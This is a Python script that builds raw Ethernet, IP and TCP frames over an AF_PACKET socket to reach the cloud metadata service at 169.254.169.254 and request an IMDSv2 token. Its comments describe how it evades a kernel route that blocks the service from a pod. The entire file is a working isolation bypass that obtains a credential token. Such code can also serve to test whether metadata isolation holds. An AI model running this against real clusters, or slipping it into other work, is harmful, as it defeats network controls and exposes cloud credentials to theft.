# Asks the metadata service for a token and prints the response. Arguments: the own address, and the
# MAC address of the router. Sends frames over a socket of AF_PACKET, which no route of the kernel
# stops.
#
# The kernel does not know this connection and would reset it. The route that closes the service to
# the pod also stops the reset.
import socket
import struct
import sys
import time

SYN, PUSH_ACK, ACK, FIN = 0x02, 0x18, 0x10, 0x01
PORT, FIRST = 40000, 1000
REQUEST = (
    b"PUT /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\nContent-Length: 0\r\n"
    b"X-aws-ec2-metadata-token-ttl-seconds: 60\r\nConnection: close\r\n\r\n"
)

source, router = socket.inet_aton(sys.argv[1]), bytes.fromhex(sys.argv[2].replace(":", ""))
target = socket.inet_aton("169.254.169.254")
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0800))
link.bind(("eth0", 0x0800))
link.settimeout(1)
own = link.getsockname()[4]


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def send(flags, number, acknowledged, data=b""):
    head = struct.pack("!HHIIBB", PORT, 80, number, acknowledged, 5 << 4, flags)
    head += struct.pack("!H", 65535)
    pseudo = source + target + struct.pack("!BBH", 0, 6, 20 + len(data))
    total = checksum(pseudo + head + b"\0" * 4 + data)
    segment = head + struct.pack("!HH", total, 0) + data
    start = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(segment), 1, 0, 64, 6)
    total = checksum(start + b"\0\0" + source + target)
    packet = start + struct.pack("!H", total) + source + target + segment
    link.send(router + own + b"\x08\x00" + packet)


def receive():
    """Returns flags, number and data of the next segment, or None after a second without one."""
    ends = time.monotonic() + 1
    while time.monotonic() < ends:
        try:
            packet = link.recv(65536)[14:]
        except socket.timeout:
            return None
        segment = packet[(packet[0] & 15) * 4 : struct.unpack("!H", packet[2:4])[0]]
        if packet[9] != 6 or packet[12:16] != target or segment[2:4] != struct.pack("!H", PORT):
            continue
        return segment[13], struct.unpack("!I", segment[4:8])[0], segment[(segment[12] >> 4) * 4 :]
    return None


ends = time.monotonic() + 30
answer, expected = b"", None
while time.monotonic() < ends:
    if expected is None:
        send(SYN, FIRST, 0)
    elif not answer:
        send(PUSH_ACK, FIRST + 1, expected, REQUEST)
    received = receive()
    if received is None:
        continue
    flags, number, data = received
    if flags & SYN:
        expected = number + 1
    elif number == expected:
        answer += data
        expected += len(data)
        send(ACK, FIRST + 1 + len(REQUEST), expected)
        if flags & FIN:
            break
print(answer.decode())
